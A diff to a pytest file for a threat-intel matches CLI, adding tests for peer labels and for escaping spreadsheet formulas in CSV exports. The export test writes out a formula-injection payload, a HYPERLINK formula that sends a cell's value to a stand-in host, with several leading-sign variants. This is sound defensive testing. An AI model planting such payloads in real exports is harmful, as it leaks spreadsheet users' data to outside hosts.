@@ -14,6 +14,7 @@ import pytest
 from psi_client.cli import exporting
 from psi_client.cli.own_file import FileFormat
 from psi_client.cli.own_values import own_rows
+from psi_core.kinds.labels import FIELDS
 from tests.commands import FakeNode, Turns, lines, run_psi
 
 LAB = "lab-b.example"
@@ -51,6 +52,7 @@ def exported(actor: str) -> dict[str, str]:
         "tlp",
         "status",
         "new",
+        *(f"peer_{name}" for name in FIELDS),
     )
     return dict.fromkeys(names, "x") | {"actor": actor, "peer": LAB, "strength": "medium"}
 
@@ -71,6 +73,24 @@ def test_the_list_is_what_psi_matches_shows(node: FakeNode) -> None:
     assert [[" ".join(line.split()) for line in found] for found in shown] == [
         [" ".join(line.split()) for line in expected]
     ] * 2
+
+
+def test_what_a_peer_says_stands_under_its_name(node: FakeNode) -> None:
+    labels = {
+        "severity": "high",
+        "campaign": "silver fox",
+        "first_seen": "2026-01-19",
+        "confidence": 80,
+        "tlp": "amber",
+    }
+    node.answers["GET /v1/matches"] = [row("acct-1", labels=labels), row("acct-2", labels={})]
+    shown = run_psi("matches", "--profile", node.profile, COLUMNS="250").stdout.splitlines()
+    assert shown[0].split()[-2:] == ["status", LAB]
+    assert shown[1].endswith("to review   high; silver fox; first seen 2026-01-19; confidence 80; TLP amber")
+    assert shown[2].split()[-1] == "-"
+    node.answers["POST /v1/matches/show"] = [row("acct-1", labels=labels)]
+    shown = lines(run_psi("matches", "show", "acct-1", "--profile", node.profile).stdout)
+    assert f"{LAB} says   high; silver fox; first seen 2026-01-19; confidence 80; TLP amber" in shown
 
 
 def test_filters_reach_the_node_from_either_side(node: FakeNode) -> None:
@@ -130,6 +150,27 @@ def test_matrix_and_rules(node: FakeNode) -> None:
         "strong     two kinds",
         "rarity     rare",
     ]
+
+
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+@pytest.mark.parametrize("to_file", [False, True])
+def test_no_cell_of_an_export_is_run_as_a_formula(
+    node: FakeNode, tmp_path: Path, sign: str, to_file: bool
+) -> None:
+    formula = f'{sign}HYPERLINK("https://x.example/?"&A1);=1+1'
+    node.answers["POST /v1/matches/export"] = [
+        exported(formula) | {"peer_campaign": formula, "peer_label": "a=1", "why": 'say "hi", twice'}
+    ]
+    out = tmp_path / "matches.csv"
+    where = ("--out", str(out)) if to_file else ()
+    result = run_psi("matches", "export", *where, "--profile", node.profile)
+    text = out.read_bytes().decode() if to_file else result.stdout
+    (found,) = csv.DictReader(io.StringIO(text, newline=""))
+    assert (found["actor"], found["peer_campaign"]) == (f"'{formula}", f"'{formula}")
+    assert (found["peer_label"], found["why"]) == ("a=1", 'say "hi", twice')
+    # Every cell is quoted: a separator inside one begins no other.
+    assert all(cell.startswith('"') for cell in text.split("\n")[0].split(","))
+    assert f'"\'{sign}HYPERLINK(""https' in text
 
 
 def test_export_is_csv_on_standard_output_or_in_a_file_of_ones_own(node: FakeNode, tmp_path: Path) -> None:
